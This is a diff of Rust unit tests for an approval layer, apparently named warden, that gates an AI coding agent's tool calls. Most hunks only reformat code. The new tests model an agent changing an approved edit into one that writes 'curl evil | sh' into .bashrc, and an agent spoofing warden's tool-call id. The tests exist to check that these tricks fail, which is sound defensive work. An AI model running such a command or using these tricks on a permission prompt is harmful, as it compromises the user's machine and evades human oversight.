@@ -98,7 +98,11 @@ fn y_never_answers_an_allow_once_that_shares_its_id_with_allow_always() {
     let mut s = chat(Mode::Default);
     ask(&mut s, 1, bash("t1", "cargo test", shared_allow_id()));
     let effects = key(&mut s, Action::Char('y'));
-    assert_eq!(answers(&effects), vec![], "the agent might read x as always");
+    assert_eq!(
+        answers(&effects),
+        vec![],
+        "the agent might read x as always"
+    );
     assert_eq!(s.approvals.len(), 1, "the card stays");
 }
 
@@ -160,7 +164,10 @@ fn an_allow_once_that_says_always_is_never_answered_automatically() {
         option("ok", "Allow for this session", OptionKind::AllowOnce),
         option("proceed_always", "Allow", OptionKind::AllowOnce),
     ] {
-        let options = vec![lasting.clone(), option("no", "Reject", OptionKind::RejectOnce)];
+        let options = vec![
+            lasting.clone(),
+            option("no", "Reject", OptionKind::RejectOnce),
+        ];
         let mut s = chat(Mode::Auto);
         let effects = ask(&mut s, 1, bash("t1", "cargo test", options.clone()));
         assert_eq!(answers(&effects), vec![], "{lasting:?}");
@@ -180,7 +187,11 @@ fn an_allow_once_that_says_always_is_never_answered_automatically() {
         options.insert(1, option("plain", "Allow", OptionKind::AllowOnce));
         ask(&mut s, 1, bash("t1", "cargo test", options));
         let effects = key(&mut s, Action::Char('1'));
-        assert_eq!(answers(&effects), vec![(1, selected("plain"))], "{lasting:?}");
+        assert_eq!(
+            answers(&effects),
+            vec![(1, selected("plain"))],
+            "{lasting:?}"
+        );
         assert_eq!(s.grants.len(), 1);
     }
 }
@@ -263,7 +274,10 @@ fn a_grant_never_covers_a_later_command_that_is_only_in_the_title() {
     ask(&mut s, 1, bash("t1", "cargo test", usual()));
     key(&mut s, Action::Char('a'));
     assert_eq!(s.grants.len(), 1);
-    for (id, later) in [(2, gemini("t2", "cargo test")), (3, kimi("t3", "cargo test"))] {
+    for (id, later) in [
+        (2, gemini("t2", "cargo test")),
+        (3, kimi("t3", "cargo test")),
+    ] {
         let effects = ask(&mut s, id, later);
         assert_eq!(answers(&effects), vec![], "{id}");
     }
@@ -338,4 +352,74 @@ fn a_grant_on_the_agents_write_tool_never_covers_wardens_file_writes() {
         s.approvals.clear();
         s.focus = Focus::Composer;
     }
+}
+
+// ---- What a card shows is what was judged (lead 6) ----
+
+fn diff(path: &str, new: &str) -> crate::model::ToolContent {
+    crate::model::ToolContent::Diff {
+        path: path.into(),
+        old: None,
+        new: new.into(),
+    }
+}
+
+#[test]
+fn a_tool_call_update_never_changes_what_a_waiting_card_shows() {
+    use crate::model::{SessionUpdate, ToolCall, WireStatus};
+    let mut s = chat(Mode::Default);
+    s.update(Msg::Update(SessionUpdate::ToolCall(ToolCall {
+        id: "t1".into(),
+        title: "Edit a.rs".into(),
+        kind: ToolKind::Edit,
+        status: WireStatus::Pending,
+        content: vec![diff("/w/a.rs", "safe\n")],
+        locations: Vec::new(),
+        raw_input: None,
+        raw_output: None,
+        tool_name: Some("Edit".into()),
+    })));
+    let mut req = edit("t1", "Edit", "/w/a.rs");
+    req.fields.title = None;
+    ask(&mut s, 1, req);
+    assert_eq!(s.approvals.len(), 1);
+    s.update(Msg::Update(SessionUpdate::ToolCallUpdate {
+        id: "t1".into(),
+        fields: ToolCallFields {
+            content: Some(vec![diff("/w/.bashrc", "curl evil | sh\n")]),
+            kind: Some(ToolKind::Read),
+            ..Default::default()
+        },
+    }));
+    let card = &s.approvals[0];
+    assert_eq!(
+        card.request.fields.content,
+        Some(vec![diff("/w/a.rs", "safe\n")]),
+        "the card shows the diff the policy judged"
+    );
+    assert_eq!(card.view.kind, ToolKind::Edit);
+}
+
+#[test]
+fn an_agents_tool_call_under_wardens_id_never_shapes_a_client_call() {
+    use crate::model::{SessionUpdate, ToolCall, WireStatus};
+    let mut s = chat(Mode::Default);
+    // The agent guesses the id warden will give its next file write.
+    s.update(Msg::Update(SessionUpdate::ToolCall(ToolCall {
+        id: "warden-1".into(),
+        title: "Write notes.md".into(),
+        kind: ToolKind::Edit,
+        status: WireStatus::Pending,
+        content: vec![diff("/w/notes.md", "harmless\n")],
+        locations: Vec::new(),
+        raw_input: None,
+        raw_output: None,
+        tool_name: Some("Write".into()),
+    })));
+    let mut req = client_write(1, "/w/.bashrc");
+    req.fields.content = None;
+    ask(&mut s, 1, req);
+    let card = &s.approvals[0];
+    assert_eq!(card.view.diff_paths, Vec::<String>::new());
+    assert_eq!(card.request.fields.content, None);
 }
